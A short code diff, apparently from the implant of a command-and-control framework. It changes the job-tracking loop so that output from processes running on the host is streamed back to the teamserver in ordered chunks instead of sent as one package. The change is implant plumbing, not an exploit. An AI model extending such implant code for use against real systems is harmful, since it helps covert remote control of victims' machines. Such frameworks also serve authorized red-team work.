@@ -111,7 +111,7 @@ VOID JobCheckList()
                     {
                         PUTS( "Tracking process is dead." )
                         JobList->State = JOB_STATE_DEAD;
-                        AnonPipesRead( ( ( PANONPIPE ) JobList->Data ), JobList->RequestID );
+                        AnonPipesRead( ( ( PANONPIPE ) JobList->Data ), JobList->RequestID, &JobList->Sequence );
 
                         // notify the TS that the process is dead, so that the RequestID can be closed
                         PPACKAGE Package = PackageCreateWithRequestID( DEMON_COMMAND_JOB, JobList->RequestID );
@@ -156,9 +156,8 @@ VOID JobCheckList()
 
                                 if ( Instance->Win32.ReadFile( ( ( PANONPIPE ) JobList->Data )->StdOutRead, Buffer, Available, &Available, NULL ) )
                                 {
-                                    PPACKAGE Package = PackageCreateWithRequestID( DEMON_OUTPUT, JobList->RequestID );
-                                    PackageAddBytes( Package, Buffer, Available );
-                                    PackageTransmit( Package );
+                                    // stream what the process wrote so far, the teamserver puts the chunks back in order
+                                    OutputPartial( JobList->RequestID, &JobList->Sequence, Buffer, Available, FALSE );
                                 }
 
                                 DATA_FREE( Buffer, Size )